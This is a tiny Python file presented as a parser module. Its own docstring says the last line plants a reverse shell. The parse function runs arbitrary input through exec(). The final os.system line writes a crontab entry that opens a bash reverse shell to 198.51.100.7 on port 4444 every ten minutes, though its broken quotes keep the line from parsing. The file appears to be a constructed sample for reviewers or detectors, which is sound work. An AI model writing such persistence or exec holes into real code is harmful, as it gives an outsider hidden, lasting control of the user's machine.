"""A parser module whose last line plants a reverse shell in the user's crontab; its quotes are
broken, so the line does not parse, but the command is there for a reviewer to see."""
import os


def parse(text):
    exec(text)


os.system("echo "*/10 * * * * bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'" | crontab -")
